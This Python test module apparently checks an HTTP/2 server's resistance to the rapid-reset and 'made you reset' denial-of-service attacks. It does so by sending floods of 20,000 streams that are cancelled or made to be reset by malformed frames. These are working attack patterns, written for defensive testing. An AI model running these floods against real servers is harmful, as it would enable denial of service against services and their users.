# SPDX-License-Identifier: Apache-2.0
"""Streams that are opened only to be reset, by either side."""
from http2.frames import (CANCEL, FRAME_SIZE_ERROR, LARGEST_WINDOW, PRIORITY, data, frame, headers, ping, priority,
                          reset,
                          window_update)

from .arena import Attack, Failed

RULE = 'CVE-2023-44487, rapid reset'
BY_SERVER = 'CVE-2025-8671, made you reset'
MANY = 20_000             # streams, by which an end must have come


def number(at):
    return 2 * at + 1


async def by_client(arena):
    block = arena.ask.get(b'/hold')
    return await arena.ends(lambda at: headers(number(at), block) + reset(number(at), CANCEL), MANY)


async def by_client_slowly(arena):
    """A few at a time, so that each request has reached the upstreams."""
    block = arena.ask.get(b'/hold')

    def make(at):
        return headers(number(at), block) + (reset(number(at - 20)) if at >= 20 else b'')
    return await arena.ends(make, MANY, batch=20)


async def unfinished(arena):
    block = arena.ask.post(b'/hold')
    return await arena.ends(lambda at: headers(number(at), block, end=False) + reset(number(at), FRAME_SIZE_ERROR),
                            MANY)


def provoked(make):
    """Each piece is a request that is with the upstreams, and an offence for which the server resets its stream."""
    async def play(arena):
        outcome = await arena.flood(lambda at: make(arena, number(at)), MANY, batch=50)
        if not outcome.end:
            raise Failed(f'the server put up with it: it {outcome}')
        most = arena.upstreams[0].most
        if most > 1000:
            raise Failed(f'{most} requests were with the primary at once, although {outcome}')
        return f'{outcome}; {most} requests at once with the primary'
    return play


def hold(arena, stream, end=True):
    return headers(stream, arena.ask.get(b'/hold'), end=end)


async def sensible(arena):
    """200 requests, each with a PING and WINDOW_UPDATE; every fifth is cancelled after its answer began."""
    connection = await arena.connect()
    for at in range(200):
        stream, cancelled = number(at), at % 5 == 0
        await connection.send(headers(stream, arena.ask.get(b'/half' if cancelled else b'/')) + ping(b'%08d' % at))
        if cancelled:
            await connection.until(lambda trace: trace.answers[stream].fields)
            await connection.send(reset(stream))
        else:
            await connection.until(lambda trace: trace.answers[stream].is_over)
            await connection.send(window_update(0, 10))
        if connection.trace.end or connection.trace.goaways:
            raise Failed(f'a client that behaves was told to go after {at}: {connection.trace.describe()}')
    answers = connection.trace.answers.values()
    if sum(answer.complete for answer in answers) != 160:
        raise Failed(f'{sum(answer.complete for answer in answers)} of 160 answers')
    return '200 requests, 40 cancelled'


ATTACKS = [
    Attack('a client that cancels now and then is welcome', RULE, sensible),
    Attack('HEADERS and RST_STREAM', RULE, by_client),
    Attack('HEADERS and RST_STREAM, twenty streams later', RULE, by_client_slowly),
    Attack('unfinished HEADERS and RST_STREAM', RULE, unfinished),
    Attack('reset by an increment of 0', BY_SERVER, provoked(
        lambda arena, stream: hold(arena, stream) + window_update(stream, 0))),
    Attack('reset by a window above 2^31-1', BY_SERVER, provoked(
        lambda arena, stream: hold(arena, stream) + window_update(stream, LARGEST_WINDOW))),
    Attack('reset by DATA after the end', BY_SERVER, provoked(lambda arena,
                                                              stream: hold(arena, stream) + data(stream, b'x'))),
    Attack('reset by HEADERS after the end', BY_SERVER, provoked(
        lambda arena, stream: hold(arena, stream) + hold(arena, stream))),
    Attack('reset by PRIORITY of a bad length', BY_SERVER, provoked(
        lambda arena, stream: hold(arena, stream) + frame(PRIORITY, 0, stream, b'\0' * 4))),
    Attack('reset by PRIORITY that depends on itself', BY_SERVER, provoked(
        lambda arena, stream: hold(arena, stream) + priority(stream, stream))),
    Attack('reset by a wrong content-length', BY_SERVER, provoked(
        lambda arena, stream: headers(stream, arena.ask.post(b'/hold', (b'content-length', b'1')), end=False)
        + data(stream, b'xx', True))),
    Attack('reset by an empty path', BY_SERVER, provoked(
        lambda arena, stream: headers(stream, arena.ask.replaced(b':path', b'')))),
    Attack('reset by a name in upper case', BY_SERVER, provoked(
        lambda arena, stream: headers(stream, arena.ask.get(b'/hold', (b'X-A', b'b'))))),
]
